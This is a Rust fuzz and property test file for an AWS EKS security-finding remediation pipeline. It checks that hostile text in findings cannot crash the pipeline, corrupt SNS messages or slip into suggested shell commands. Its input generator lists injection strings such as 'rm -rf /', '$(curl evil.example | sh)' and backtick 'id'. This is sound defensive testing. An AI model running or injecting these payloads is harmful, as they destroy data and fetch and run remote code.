//! Hostile input through the whole path — parse, gate, classify, plan and message rendering — with
//! the live cluster mocked: no panic, the SNS subject stays printable ASCII under 100 characters,
//! and every value inside a suggested shell command is quoted, so finding text can never become a
//! command. `make test` runs a bounded number of cases; `make fuzz` runs 100,000 and more
//! (PROPTEST_CASES).

use proptest::prelude::*;
use serde_json::{Value, json};
use shared::output::report::Report;
use shared::pipeline::{Remediation, ResponderError, respond};
use shared::testing::{
    ClusterFixture, capturing_clients, config, eks_client, event, held_findings_rule,
    mocked_deps_with,
};
use shared::{Mode, Trait};

/// Outside single quotes, only characters that a POSIX shell treats as plain word text; or a
/// single-line comment (a command held back until a blocker clears).
fn shell_safe(cli: &str) -> bool {
    if cli.starts_with('#') {
        return !cli.chars().any(char::is_control);
    }
    let mut in_quote = false;
    let mut chars = cli.chars().peekable();
    while let Some(c) = chars.next() {
        if in_quote {
            if c == '\'' {
                in_quote = false;
            }
            continue;
        }
        match c {
            '\'' => in_quote = true,
            '\\' if chars.peek() == Some(&'\'') => {
                chars.next();
            }
            c if c.is_ascii_alphanumeric() || " _-./:=,@%+".contains(c) => {}
            _ => return false,
        }
    }
    !in_quote
}

fn check_report(
    r: &Report,
    published: &[aws_sdk_sns::operation::publish::PublishInput],
) -> Result<(), String> {
    for step in r.plan.iter().chain(&r.follow_ups) {
        if !shell_safe(&step.cli) {
            return Err(format!("unquoted shell text in: {}", step.cli));
        }
    }
    if let Some(cli) = r.revert.as_ref().and_then(|v| v.cli.as_deref())
        && !shell_safe(cli)
    {
        return Err(format!("unquoted shell text in revert: {cli}"));
    }
    for p in published {
        let subject = p.subject().unwrap_or_default();
        if subject.len() >= 100
            || !subject.chars().all(|c| c.is_ascii_graphic() || c == ' ')
            || subject.is_empty()
        {
            return Err(format!("bad SNS subject {subject:?}"));
        }
        let total = p.message().map_or(0, str::len)
            + p.message_attributes().map_or(0, |a| {
                a.iter()
                    .map(|(k, v)| k.len() + v.string_value().map_or(0, str::len))
                    .sum()
            });
        if total > 256 * 1024 {
            return Err(format!("SNS message of {total} bytes"));
        }
    }
    Ok(())
}

/// What one function did with one event: plan steps checked, and whether a message was
/// rendered and published (the property only means something for cases that got that far).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
struct Reached {
    steps: usize,
    /// The gate accepted the event and it carries a trait of the function.
    handled: bool,
    rendered: bool,
}

/// Run one event through every function with a mocked live cluster, in `mode`. In apply mode
/// Security Hub holds the event's own finding, so the read-back confirms it and the change is
/// made (mocked) for endpoint-access; the other functions stop at their pre-flight checks.
async fn through_every_function(event: Value, mode: Mode) -> Result<Vec<Reached>, String> {
    async fn one<R: Remediation>(fix: &R, event: Value, mode: Mode) -> Result<Reached, String> {
        use shared::testing::aws_smithy_mocks::{RuleMode, mock, mock_client};
        let held = held_findings_rule(vec![event["detail"]["findings"][0].clone()]);
        // As the runtime hands it over: the event's JSON text.
        let event = serde_json::value::to_raw_value(&event).map_err(|e| e.to_string())?;
        let mut cluster = ClusterFixture::new("payments-prod");
        cluster.version = "1.24".into();
        let versions = mock!(aws_sdk_eks::Client::describe_cluster_versions).then_output(|| {
            aws_sdk_eks::operation::describe_cluster_versions::DescribeClusterVersionsOutput::builder().build()
        });
        let nodegroups = mock!(aws_sdk_eks::Client::list_nodegroups).then_output(|| {
            aws_sdk_eks::operation::list_nodegroups::ListNodegroupsOutput::builder().build()
        });
        let insights = mock!(aws_sdk_eks::Client::list_insights).then_output(|| {
            aws_sdk_eks::operation::list_insights::ListInsightsOutput::builder().build()
        });
        let addons = mock!(aws_sdk_eks::Client::list_addons).then_output(|| {
            aws_sdk_eks::operation::list_addons::ListAddonsOutput::builder().build()
        });
        let update = mock!(aws_sdk_eks::Client::update_cluster_config).then_output(|| {
            aws_sdk_eks::operation::update_cluster_config::UpdateClusterConfigOutput::builder()
                .update(
                    aws_sdk_eks::types::Update::builder()
                        .id("u-hostile")
                        .status(aws_sdk_eks::types::UpdateStatus::InProgress)
                        .build(),
                )
                .build()
        });
        let describe_update = shared::testing::describe_update_rule(
            "u-hostile",
            aws_sdk_eks::types::UpdateType::EndpointAccessUpdate,
        );
        let eks = eks_client(&[
            &cluster.describe_rule(),
            &versions,
            &nodegroups,
            &insights,
            &addons,
            &update,
            &describe_update,
        ]);
        let (sns, _, cap) = capturing_clients();
        let record = mock!(aws_sdk_securityhub::Client::batch_update_findings_v2).then_output(|| {
            aws_sdk_securityhub::operation::batch_update_findings_v2::BatchUpdateFindingsV2Output::builder().build()
        });
        let securityhub = mock_client!(aws_sdk_securityhub, RuleMode::MatchAny, &[&record, &held]);
        let d = mocked_deps_with(config(mode), eks, sns, securityhub);
        match respond(fix, &d, event, None).await {
            Ok(r) => {
                let published = cap.published();
                check_report(&r, &published)?;
                Ok(Reached {
                    steps: r.plan.len() + r.follow_ups.len(),
                    handled: r.reason_code.as_str() != "no_handled_traits",
                    rendered: !published.is_empty(),
                })
            }
            Err(ResponderError::InvalidFinding(_)) => Ok(Reached::default()),
            Err(e) => Err(format!("unexpected error: {e}")),
        }
    }
    let endpoint = endpoint_access::EndpointAccess::new(endpoint_access::Settings {
        stage_soak_minutes: 0,
        ..endpoint_access::Settings::default()
    });
    let secrets = secrets_encryption::SecretsEncryption::new(
        secrets_encryption::Settings::from_env(&std::collections::HashMap::new())
            .map_err(|e| e.to_string())?,
    );
    // Enrichment off: the CVE path is planned and rendered from what the finding carries.
    let no_enrichment =
        std::collections::HashMap::from([("MAX_ENRICHED_SIGNALS".to_string(), "0".to_string())]);
    let vulnerabilities = container_vulnerabilities::ContainerVulnerabilities::new(
        container_vulnerabilities::Settings::from_env(&no_enrichment).map_err(|e| e.to_string())?,
        shared::testing::aws_smithy_mocks::mock_client!(aws_sdk_securityhub, &[]),
    );
    Ok(vec![
        one(&endpoint, event.clone(), mode).await?,
        one(&secrets, event.clone(), mode).await?,
        one(
            &kubernetes_version::KubernetesVersion::new(),
            event.clone(),
            mode,
        )
        .await?,
        one(&vulnerabilities, event, mode).await?,
    ])
}

/// Plan steps per function (0 where the event was refused).
async fn steps_of(event: Value, mode: Mode) -> Result<Vec<usize>, String> {
    through_every_function(event, mode)
        .await
        .map(|r| r.iter().map(|x| x.steps).collect())
}

fn block_on<F: std::future::Future>(f: F) -> F::Output {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("runtime")
        .block_on(f)
}

/// Strings a hostile or broken producer could put in a finding.
fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        ".{0,60}",
        "[\\x00-\\x1f\\x7f]{1,20}",
        Just("payments-prod; rm -rf / #".to_string()),
        Just("$(curl evil.example | sh)".to_string()),
        Just("`id`\n'\"\\".to_string()),
        Just("платёжный-кластер-🚀".to_string()),
        Just("\u{202e}evil\u{200b}".to_string()),
        Just("a".repeat(300)),
    ]
}

/// Set the field at `pointer` (JSON pointer), creating the last key where its parent exists.
fn set(v: &mut Value, pointer: &str, value: Value) {
    let (parent, key) = pointer.rsplit_once('/').unwrap_or(("", pointer));
    match v.pointer_mut(parent) {
        Some(Value::Object(m)) => {
            m.insert(key.to_string(), value);
        }
        Some(Value::Array(a)) => {
            if let Some(slot) = key.parse::<usize>().ok().and_then(|i| a.get_mut(i)) {
                *slot = value;
            }
        }
        _ => {}
    }
}

const F: &str = "/detail/findings/0";

proptest! {
    #![proptest_config(ProptestConfig {
        cases: std::env::var("PROPTEST_CASES").ok().and_then(|c| c.parse().ok()).unwrap_or(600),
        .. ProptestConfig::default()
    })]

    #[test]
    fn hostile_text_anywhere_a_person_reads_is_contained(
        case in hostile_case(),
        mode in prop::sample::select(vec![Mode::Propose, Mode::Apply]),
    ) {
        let result = block_on(through_every_function(case, mode));
        prop_assert!(result.is_ok(), "{}", result.err().unwrap_or_default());
    }
}

const SAMPLES: [&str; 6] = [
    "eks-public-access.json",
    "eks-multi-trait.json",
    "eks-unencrypted-secrets.json",
    "eks-cross-account-uid-alt.json",
    "eks-preview-shape.json",
    "eks-high-priority-vulnerability.json",
];

/// A sample with a valid cluster identity (a generated name, in the sample's own account and
/// Region, so the gate accepts it) and hostile text in every other field a person reads.
fn hostile_case() -> impl Strategy<Value = Value> {
    (
        prop::sample::select(SAMPLES.to_vec()),
        "[a-zA-Z][a-zA-Z0-9_-]{0,40}",
        (hostile_text(), hostile_text(), hostile_text()),
        (hostile_text(), hostile_text(), hostile_text()),
    )
        .prop_map(
            |(sample, name, (title, tag, signal_title), (severity, uid, desc))| {
                let mut v = event(sample);
                let f = &v["detail"]["findings"][0];
                let r = &f["resources"][0];
                // The sample's own ARN (in uid or uid_alt), with the generated name.
                let arn = [&r["uid"], &r["uid_alt"]]
                    .iter()
                    .filter_map(|a| a.as_str())
                    .find(|a| a.starts_with("arn:"))
                    .map(|a| format!("{}/{name}", a.rsplit_once('/').map_or(a, |(head, _)| head)))
                    .expect("every sample names its cluster ARN");
                let p = |s: &str| format!("{F}/{s}");
                for (field, value) in [
                    (p("resources/0/name"), json!(name)),
                    (p("resources/0/uid"), json!(arn)),
                    (p("finding_info/title"), json!(title)),
                    (p("finding_info/desc"), json!(desc)),
                    (p("resources/0/tags/0/value"), json!(tag)),
                    (
                        p("finding_info/related_events/0/title"),
                        json!(signal_title),
                    ),
                    (p("severity"), json!(severity)),
                    // Never blank (the gate refuses that), otherwise anything.
                    (p("metadata/uid"), json!(format!("u{uid}"))),
                ] {
                    set(&mut v, &field, value);
                }
                v
            },
        )
}

#[test]
fn generated_cases_reach_rendering() {
    // The property above is only as strong as the share of cases that reach the message: on a
    // fixed seed, every case a function handles must be rendered, and every function must
    // handle some.
    use proptest::strategy::ValueTree;
    use proptest::test_runner::TestRunner;
    const CASES: usize = 150;
    const FUNCTIONS: [&str; 4] = [
        "endpoint-access",
        "secrets-encryption",
        "kubernetes-version",
        "container-vulnerabilities",
    ];
    for mode in [Mode::Propose, Mode::Apply] {
        let mut runner = TestRunner::deterministic();
        let strategy = hostile_case();
        let mut handled = [0usize; 4];
        let mut rendered = [0usize; 4];
        for _ in 0..CASES {
            let case = strategy
                .new_tree(&mut runner)
                .expect("a generated case")
                .current();
            let reached = block_on(through_every_function(case, mode)).expect("no violation");
            for (i, r) in reached.iter().enumerate() {
                handled[i] += usize::from(r.handled);
                rendered[i] += usize::from(r.rendered);
            }
        }
        eprintln!(
            "{mode:?}, {CASES} hostile cases: handled {handled:?}, rendered {rendered:?} ({FUNCTIONS:?})"
        );
        for (i, function) in FUNCTIONS.iter().enumerate() {
            assert!(
                handled[i] >= CASES / 10,
                "{mode:?}: {function} handled only {} of {CASES}",
                handled[i]
            );
            assert_eq!(
                rendered[i], handled[i],
                "{mode:?}: {function} rendered {} of the {} cases it handled",
                rendered[i], handled[i]
            );
        }
    }
}

#[test]
fn a_256_kib_event_with_10000_signals_is_handled() {
    let mut v = event("eks-multi-trait.json");
    let template = v["detail"]["findings"][0]["finding_info"]["related_events"][0].clone();
    let mut signals = Vec::new();
    for i in 0..10_000 {
        let mut s = template.clone();
        s["uid"] = json!(format!(
            "arn:aws:securityhub:us-east-1:444455556666:security-control/EKS.1/finding/{i:08}"
        ));
        signals.push(s);
    }
    v["detail"]["findings"][0]["finding_info"]["related_events"] = Value::Array(signals);
    v["detail"]["findings"][0]["finding_info"]["desc"] = json!("x".repeat(256 * 1024));
    let size = v.to_string().len();
    assert!(size > 256 * 1024, "{size}");
    assert_eq!(block_on(steps_of(v, Mode::Propose)).map(|s| s.len()), Ok(4));
}

#[test]
fn deeply_nested_json_is_rejected_not_overflowed() {
    // 100,000 levels: the runtime's payload step and the envelope's detail skip over the text
    // without recursing (they only check that it is JSON), and the typed parser of the detail
    // refuses the first level that has the wrong type; none overflows the stack.
    let deep = format!(
        r#"{{"source":"aws.securityhub","detail-type":"Findings Imported V2","detail":{{"findings":{}{}}}}}"#,
        "[".repeat(100_000),
        "]".repeat(100_000)
    );
    let payload = serde_json::from_str::<shared::lambda::Payload>(&deep)
        .expect("the runtime hands well-formed JSON over as text");
    let envelope = shared::event::gate::IncomingEvent::parse(&payload).expect("a valid envelope");
    let err = shared::event::gate::findings_of(&envelope).expect_err("too deep");
    assert!(err.path().starts_with("$.detail.findings"), "{err}");
    let envelope = shared::event::gate::parse_event(deep.as_bytes()).expect("a valid envelope");
    let err = shared::event::gate::findings_of(&envelope).expect_err("too deep");
    assert!(err.path().starts_with("$.detail.findings"), "{err}");
    let mut nested = json!(1);
    for _ in 0..120 {
        nested = json!({ "a": nested });
    }
    let mut v = event("eks-public-access.json");
    v["detail"]["findings"][0]["finding_info"]["related_events"][0]["extra"] = nested;
    assert_eq!(block_on(steps_of(v, Mode::Propose)).map(|s| s.len()), Ok(4));
}

#[test]
fn the_whole_path_is_exercised_for_every_function() {
    // Guard against a property that passes because nothing reaches the plan: with the
    // multi-trait sample every function plans, and so its commands are checked.
    let steps =
        block_on(steps_of(event("eks-multi-trait.json"), Mode::Propose)).expect("no violation");
    assert_eq!(steps.len(), 4);
    assert!(
        steps.iter().all(|n| *n > 0),
        "plan steps per function: {steps:?}"
    );
}

#[test]
fn the_shell_check_itself_catches_unquoted_text() {
    assert!(shell_safe(
        "aws eks describe-cluster --name 'a; b' --region us-east-1"
    ));
    assert!(shell_safe(r"aws x --v 'it'\''s'"));
    assert!(!shell_safe("aws eks describe-cluster --name a;b"));
    assert!(!shell_safe("aws eks describe-cluster --name $(id)"));
    assert!(!shell_safe("aws x --v 'unterminated"));
    assert!(shell_safe(
        "# BLOCKED until the insight clears - do not run yet: aws eks x"
    ));
    assert!(!shell_safe(
        "# BLOCKED until\nrm -rf / - do not run yet: aws eks x"
    ));
    // The trait list is what functions own.
    assert_eq!(Trait::ALL.len(), 5);
}
